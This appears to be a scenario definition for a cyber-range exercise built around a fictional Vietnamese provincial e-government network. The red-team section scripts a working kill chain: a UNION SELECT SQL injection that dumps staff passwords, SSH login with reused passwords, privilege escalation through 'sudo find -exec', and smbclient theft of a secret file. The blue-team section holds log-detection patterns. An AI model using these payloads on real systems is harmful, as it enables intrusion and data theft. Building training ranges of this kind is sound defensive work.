-- Provincial e-government system on real Debian machines: the document and
-- public-service system of the fictional province of Hòa Bình Xanh, a
-- security-level-3 system (Decree 85/2016). The public-service portal
-- (Cổng dịch vụ công, PHP + MariaDB) and the mail server sit in the DMZ; the
-- document database, the file server and the administrators' workstation
-- in the internal network. Every blue team gets its own copy; the red zone
-- is shared. Organisers' guide: README.md. Language: docs/scenario-language.md.

scenario {
  name = "provincial-egov",
  title = "Diễn tập thực chiến: Hệ thống chính quyền điện tử tỉnh Hòa Bình Xanh",
  description = "Tấn công cổng dịch vụ công qua lỗ hổng SQL injection, dùng lại mật khẩu "
             .. "cán bộ để đăng nhập SSH, leo thang đặc quyền và lấy cắp tài liệu mật từ "
             .. "máy chủ tệp; đội ứng cứu điều tra từ nhật ký thật (nginx, auth.log).",
  organisation = "Sở Thông tin và Truyền thông tỉnh Hòa Bình Xanh",
  year = 2026,
  security_level = 3,
  duration = "2h",
  seed = 20261202,
  address_pool = "10.208.0.0/16",
  default_policy = "deny",
}

team "white" { role = "white", display_name = "Ban tổ chức diễn tập",
               organisation = "Cục An toàn thông tin" }
team "red1"  { role = "red", display_name = "Đội tấn công", members = 4 }
team "blue1" { role = "blue", display_name = "Đội ứng cứu sự cố tỉnh Hòa Bình Xanh",
               organisation = "Sở TT&TT Hòa Bình Xanh", members = 5 }
team "blue2" { role = "blue", display_name = "Đội ứng cứu sự cố tỉnh Sơn Lâm",
               organisation = "Sở TT&TT Sơn Lâm", members = 5 }

network "dmz"      { cidr = "10.20.1.0/24",
                     description = "Vùng DMZ: cổng dịch vụ công, thư điện tử" }
network "internal" { cidr = "10.20.2.0/24",
                     description = "Mạng nội bộ: CSDL văn bản, máy chủ tệp, máy quản trị" }
network "red"      { cidr = "172.30.208.0/24", zone = "shared",
                     description = "Internet as seen by the attackers" }

-- Firewall: first match wins, then default_policy (deny). Services name no
-- reachable_from: the rules below say who reaches what (`livefire plan`
-- prints the attack paths), and without client/server edges every node
-- boots in one provisioning layer (a debian boot takes minutes under TCG).
allow { from = "red", to = "portal", protocol = "tcp", ports = {80},
        description = "public web: the online public-service portal" }
allow { from = "red", to = "portal", protocol = "tcp", ports = {22},
        description = "SSH left open to the Internet for the contractor's maintenance (the weakness)" }
allow { from = "red", to = "mail", protocol = "tcp", ports = {25},
        description = "inbound mail" }
allow { from = "portal", to = "csdl", protocol = "tcp", ports = {3306},
        description = "the portal's reports read the document database" }
allow { from = "portal", to = "files", protocol = "tcp", ports = {445},
        description = "the portal files citizens' attachments on the file server" }
allow { from = "internal", to = "dmz", description = "administrators manage the DMZ" }

-- The portal's staff reuse one password for the portal, their accounts and
-- SSH: the SQL injection gives it away.
local STAFF_PASSWORD = "HoaBinhXanh@2024"
local SYNC = { user = "dongbo", password = "DongBo#2025" }  -- portal -> file server
-- The blue team's own login on its copy's machines (the portal's console,
-- SSH from inside): admin, so sudo and the adm group's logs. Not in the
-- attack model (no credential): red never learns it. The white cell hands
-- it out with the portal password.
local IR = { user = "ungcuu", password = "UngCuu#2026" }
local PLAN = "ke-hoach-chuyen-doi-so-2026.txt"

node "portal" {
  template = "debian", security_level = 3, value = 2,
  role = "Cổng dịch vụ công trực tuyến (nginx, PHP-FPM, MariaDB)",
  resources = { memory_mb = 768 },
  iface { network = "dmz", address = "10.20.1.10" },
  account { user = IR.user, password = IR.password, admin = true },
  service "http" { port = 80,
                   check = { kind = "http", path = "/", expect = "Cổng dịch vụ công" } },
  service "ssh" { port = 22, check = { kind = "ssh" } },
  service "mysql" { port = 3306 },
  vuln "php-sqli" { cwe = "CWE-89", severity = "high", service = "http",
                    description = "tra-cuu.php builds its SQL from ?ma=" },
  vuln "ssh-weak-password" { cwe = "CWE-521", severity = "high", service = "ssh", cost = 2,
                             description = "staff passwords accepted over SSH, reused from the portal" },
  vuln "sudo-gtfobins" { cwe = "CWE-269", severity = "high", cost = 1,
                         description = "sudo find without a password for group users" },
  vuln "backup-credentials" { cwe = "CWE-530", severity = "medium", service = "http",
                              description = "/backup/db.sql.bak readable by anyone" },
  account { user = "quantri", password = STAFF_PASSWORD },
  account { user = "canbo1", password = "Canbo1@2025" },
  file { path = "/root/flag.txt", content = "FLAG{egov-portal-root-4d1e7b}", mode = "0600" },
  file { path = "/root/.smbcredentials", mode = "0600",
         content = "username=" .. SYNC.user .. "\npassword=" .. SYNC.password .. "\n" },
}

node "mail" {
  template = "debian", security_level = 3, value = 1,
  role = "Máy chủ thư điện tử (Postfix, Dovecot)",
  resources = { memory_mb = 512 },
  iface { network = "dmz", address = "10.20.1.11" },
  account { user = IR.user, password = IR.password, admin = true },
  service "smtp" { port = 25, check = { kind = "smtp", expect = "220" } },
  service "imap" { port = 143 },
  account { user = "vanthu", password = "VanThu@2025" },
}

node "csdl" {
  template = "debian", security_level = 3, value = 2,
  role = "Cơ sở dữ liệu văn bản (MariaDB)",
  resources = { memory_mb = 512 },
  iface { network = "internal", address = "10.20.2.10" },
  account { user = IR.user, password = IR.password, admin = true },
  service "mysql" { port = 3306, check = { kind = "tcp" } },
  vuln "mariadb-default-root" { cwe = "CWE-1393", severity = "critical", service = "mysql",
                                description = "root without a password, from any host" },
}

node "files" {
  template = "debian", security_level = 3, value = 3,
  role = "Máy chủ tệp (Samba): tài liệu mật",
  resources = { memory_mb = 512 },
  iface { network = "internal", address = "10.20.2.11" },
  account { user = IR.user, password = IR.password, admin = true },
  service "smb" { port = 445, check = { kind = "tcp" } },
  vuln "samba-guest-write" { cwe = "CWE-284", severity = "medium", service = "smb",
                             description = "[shared] open to guests" },
  account { user = SYNC.user, password = SYNC.password },
  file { path = "/srv/samba/shared/" .. PLAN, mode = "0644",
         content = "TÀI LIỆU MẬT - Kế hoạch chuyển đổi số tỉnh Hòa Bình Xanh 2026\n"
                .. "FLAG{egov-plan-exfil-93b2c6}\n" },
}

node "admin-ws" {
  template = "debian", security_level = 3, value = 1,
  role = "Máy trạm quản trị (administrator workstation)",
  resources = { memory_mb = 512 },
  iface { network = "internal", address = "10.20.2.20" },
  account { user = IR.user, password = IR.password, admin = true },
  service "ssh" { port = 22 },
  vuln "writable-cron" { cwe = "CWE-732", severity = "high",
                         description = "root's cleanup cron runs a world-writable script" },
  account { user = "quantri", password = STAFF_PASSWORD },
}

node "attacker" {
  template = "debian", role = "red team jump host (curl, ssh, smbclient, mysql)",
  resources = { memory_mb = 512 },
  iface { network = "red", address = "172.30.208.10" },
}

objective "root-portal" { kind = "read_flag", node = "portal", path = "/root/flag.txt",
                          flag = "FLAG{egov-portal-root-4d1e7b}", points = 50,
                          description = "Root on the public-service portal" }
objective "steal-plan" { kind = "exfiltrate", node = "files", path = "/srv/samba/shared/" .. PLAN,
                         flag = "FLAG{egov-plan-exfil-93b2c6}", points = 100,
                         description = "Get the secret digital-transformation plan off the file server" }
objective "portal-up" { kind = "keep_available", node = "portal", service = "http" }
objective "mail-up" { kind = "keep_available", node = "mail", service = "smtp" }

-- Red: the kill chain ------------------------------------------------------------
-- Every step runs on the attacker (a Debian node in the shared red zone) and
-- crosses the team's router and firewall to the real services. Loot goes to
-- the attacker's /root/loot/TEAM-*, stolen credentials into the team's
-- globals (CREDS, WORKING), which later runs for the same team see.

local function q(s) return "'" .. (s:gsub("'", "'\\''")) .. "'" end

local function curl(ctx, path)
  local r = ctx.exec("attacker",
                     "curl -s -m 60 " .. q("http://" .. ctx.addr("portal") .. path), 90)
  if not r or r.code ~= 0 then return nil end
  return r.out
end

-- `remote` on `node` over SSH as `cred` ({user, pass}), from the attacker.
-- OpenSSH reads the password from an askpass script (no sshpass in Debian's
-- base). ConnectTimeout also bounds the key exchange: generous, since
-- emulated guests on a busy host take tens of seconds for it.
local function ssh(ctx, node, cred, remote)
  local loot = "/root/loot/" .. ctx.team
  ctx.put("attacker", loot .. ".pw", cred.pass .. "\n", tonumber("600", 8))
  ctx.put("attacker", loot .. ".askpass", "#!/bin/sh\nhead -n 1 " .. loot .. ".pw\n",
          tonumber("700", 8))
  return ctx.exec("attacker", string.format(
    "SSH_ASKPASS=%s.askpass SSH_ASKPASS_REQUIRE=force ssh -o StrictHostKeyChecking=no "
    .. "-o UserKnownHostsFile=/dev/null -o ConnectTimeout=150 -o NumberOfPasswordPrompts=1 "
    .. "%s@%s %s </dev/null 2>&1", loot, cred.user, ctx.addr(node), q(remote)), 300)
end

inject "recon-web" {
  owner = "red", technique = "T1595.002", target = "portal", at = "00:05:00",
  description = "Browse the public-service portal and map its pages",
  run = function(ctx)
    local page = curl(ctx, "/")
    return page ~= nil and page:find("tra-cuu.php", 1, true) ~= nil, "portal pages mapped"
  end,
}

inject "sqli-dump" {
  owner = "red", technique = "T1190", target = "portal",
  after = { inject = "recon-web", on = "success", delay = "3m" },
  repeats = 3, every = "2m", until_success = true, points = { success = 20 },
  description = "SQL injection in the request lookup: UNION SELECT the staff table",
  run = function(ctx)
    local page = curl(ctx, "/tra-cuu.php?ma=x%27%20UNION%20SELECT%20ten_dang_nhap,mat_khau,"
                           .. "ho_ten,chuc_vu%20FROM%20can_bo%20--%20x")
    if not page then return false, "the portal did not answer" end
    CREDS = {}
    for user, pass in page:gmatch("<tr><td>([%w_-]+)</td><td>([^<]+)</td>") do
      CREDS[#CREDS + 1] = { user = user, pass = pass }
    end
    if #CREDS == 0 then return false, "no staff rows in the page" end
    ctx.put("attacker", "/root/loot/" .. ctx.team .. "-staff.txt", page)
    return true, #CREDS .. " staff accounts dumped"
  end,
}

inject "ssh-portal" {
  owner = "red", technique = "T1021.004", target = "portal",
  after = { inject = "sqli-dump", on = "success", delay = "5m" },
  repeats = 2, every = "3m", until_success = true, points = { success = 20 },
  description = "Try the dumped staff passwords over SSH (password reuse)",
  run = function(ctx)
    local said = ""
    for _, cred in ipairs(CREDS or {}) do
      local r, err = ssh(ctx, "portal", cred, "id")
      if r and r.out:find("uid=", 1, true) then
        WORKING = cred
        return true, "ssh login as " .. cred.user
      end
      said = r and r.out:sub(-160) or err
    end
    return false, "no dumped password works over SSH: " .. tostring(said)
  end,
}

inject "privesc-sudo" {
  owner = "red", technique = "T1548.003", target = "portal",
  after = { inject = "ssh-portal", on = "success", delay = "3m" },
  description = "sudo find -exec: read root's flag",
  run = function(ctx)
    local r = ssh(ctx, "portal", WORKING, "sudo -n find /root/flag.txt -exec cat {} \\;")
    if not r then return false, "ssh failed" end
    return ctx.objective("root-portal", r.out), "root through sudo find"
  end,
}

inject "exfil-plan" {
  owner = "red", technique = "T1039", target = "files",
  after = { inject = "privesc-sudo", on = "success", delay = "5m" },
  points = { success = 50 },
  description = "As root on the portal, use its file-server credentials to copy the secret plan",
  run = function(ctx)
    local r = ssh(ctx, "portal", WORKING, string.format(
      "sudo -n find /root/.smbcredentials -exec smbclient -A {} //%s/shared -c 'get %s -' \\;",
      ctx.addr("files"), PLAN))
    if not r or not r.out:find("FLAG{", 1, true) then return false, "the plan was not read" end
    local loot = "/root/loot/" .. ctx.team .. "-" .. PLAN
    ctx.put("attacker", loot, r.out)
    return ctx.objective("steal-plan", { node = "attacker", path = loot })
  end,
}

inject "db-root" {
  owner = "red", technique = "T1078.001", target = "csdl",
  after = { inject = "ssh-portal", on = "success", delay = "8m" },
  points = { success = 30 },
  description = "From the portal, log in to the document database as root without a password",
  run = function(ctx)
    local r = ssh(ctx, "portal", WORKING,
                  "mysql -h " .. ctx.addr("csdl") .. " -u root -N -e 'SHOW DATABASES'")
    return r ~= nil and r.out:find("mysql", 1, true) ~= nil, "root on MariaDB at csdl"
  end,
}

-- Blue: a scripted defender reading the real logs ------------------------------------
-- watch{}: polls `grep -E pattern log` on the node; the first matching line
-- is reported (after `delay`, the analyst's time) with the technique.
local function watch(w)
  return {
    owner = "blue", technique = w.technique, target = w.node, poll = "1m",
    description = w.description,
    when = function(ctx)
      local pattern = type(w.pattern) == "function" and w.pattern(ctx) or w.pattern
      local r = ctx.exec(w.node, "grep -E -i -m 1 " .. q(pattern) .. " " .. w.log)
      if r == nil or r.code ~= 0 then return false end
      EVIDENCE = EVIDENCE or {}
      EVIDENCE[w.technique] = r.out
      return true
    end,
    run = function(ctx)
      local function report(ctx)
        ctx.report { node = w.node, technique = w.technique,
                     description = w.report .. " (" .. w.log .. ": " .. EVIDENCE[w.technique]:sub(1, 160) .. ")" }
      end
      if w.delay then ctx.after(w.delay, report) else report(ctx) end
      return true
    end,
  }
end

inject "detect-sqli" (watch {
  node = "portal", technique = "T1190", log = "/var/log/nginx/access.log",
  pattern = "union(%20|\\+| )+select", delay = "2m",
  description = "Hunt the portal's nginx access log for SQL keywords in query strings",
  report = "SQL injection (UNION SELECT) against tra-cuu.php",
})

inject "detect-ssh" (watch {
  node = "portal", technique = "T1021.004", log = "/var/log/auth.log",
  pattern = function(ctx) return "Accepted password for .* from " .. ctx.addr("attacker") end,
  delay = "5m",
  description = "Watch auth.log for password logins from outside the province's networks",
  report = "Staff account logged in over SSH from an Internet address",
})

inject "detect-sudo" (watch {
  node = "portal", technique = "T1548.003", log = "/var/log/auth.log",
  pattern = "sudo: .*COMMAND=/usr/bin/find", delay = "5m",
  description = "Watch auth.log for sudo find (a known root shell)",
  report = "sudo find run by a staff account: privilege escalation",
})

inject "contain-portal" {
  owner = "blue", technique = "M1026", target = "portal",
  after = { inject = "detect-ssh", on = "success", delay = "45m" },
  description = "Lock the abused staff accounts and remove the sudo rule",
  run = function(ctx)
    local r = ctx.exec("portal", "usermod -L quantri && usermod -L canbo1 && "
                       .. "rm -f /etc/sudoers.d/lf-maintenance && pkill -u quantri; true")
    return r ~= nil and r.code == 0
  end,
}

-- White cell -----------------------------------------------------------------------
inject "citizen-complaint" {
  owner = "white", at = "00:40:00", response_due = "30m",
  description = "Công dân phản ánh thông tin hồ sơ bị lộ trên mạng: báo cáo trong 30 phút "
             .. "(citizens report their request data leaked: file a report within 30 minutes)",
  run = function(ctx)
    ctx.emit { kind = "task", text = "Báo cáo về nghi vấn lộ dữ liệu hồ sơ dịch vụ công" }
    return true
  end,
}

scoring {
  weights = { availability = 0.25, red_impact = 0.30, detection = 0.25, reports = 0.15,
              penalties = 0.05 },
  check_interval = "60s",
  check_timeout = "20s",  -- OpenSSH's greeting takes seconds on emulated guests
  sla_threshold = 3,
  ttd_full_credit = "10m",
  ttd_zero_credit = "60m",
}
